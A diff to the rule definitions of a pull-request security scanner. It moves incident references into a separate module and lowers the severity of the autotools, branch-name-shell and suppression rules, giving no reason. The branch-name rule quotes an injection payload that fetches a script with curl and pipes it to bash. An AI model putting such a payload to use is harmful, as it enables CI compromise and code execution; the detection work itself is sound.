@@ -1,27 +1,8 @@
 // Rules of pr-anomaly-scan. Ids are stable: configs, inline ignores and
-// code-scanning alerts refer to them. `family` groups them for the risk score.
+// code-scanning alerts refer to them. A rule's group (its id's prefix) is the
+// family the risk score chains.
 import { RuleRegistry, defineRules, rulesOf } from '@security-actions/core';
-
-export type Family = 'workflow' | 'build' | 'binary' | 'obfuscation' | 'unicode' | 'deps' | 'meta' | 'secrets';
-
-const XZ = {
-  title: 'xz-utils backdoor (CVE-2024-3094)',
-  url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4'
-};
-const ULTRALYTICS = {
-  title: 'Ultralytics branch-name injection (2024)',
-  url: 'https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection'
-};
-const TJ = {
-  title: 'tj-actions/changed-files compromise (CVE-2025-30066)',
-  url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
-};
-const TROJAN = { title: 'Trojan Source (CVE-2021-42574)', url: 'https://trojansource.codes/' };
-const GHOST = { title: 'GhostAction / Shai-Hulud: workflows that send secrets to outside hosts (2025)' };
-const PYTORCH = {
-  title: 'PyTorch self-hosted runner compromise (2024)',
-  url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/'
-};
+import { GHOST, PYTORCH, TJ, TROJAN, ULTRALYTICS, XZ } from './incidents';
 
 // --- workflows ---------------------------------------------------------------
 
@@ -140,7 +121,7 @@ export const RULES = defineRules({
   BUILD_AUTOTOOLS: {
     id: 'build/autotools',
     title: 'Autotools or m4 macro changed',
-    severity: 'high',
+    severity: 'medium',
     why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
     remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
     spec: ['S8-16'],
@@ -344,7 +325,7 @@ export const RULES = defineRules({
   META_REF_INJECTION: {
     id: 'meta/branch-name-shell',
     title: 'Shell syntax in the branch name',
-    severity: 'high',
+    severity: 'medium',
     why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
     remediation:
       'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
@@ -397,7 +378,7 @@ export const RULES = defineRules({
   META_SUPPRESSION: {
     id: 'meta/suppression-added',
     title: 'PR adds an inline suppression',
-    severity: 'medium',
+    severity: 'low',
     why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
     remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
     spec: ['S8-16']
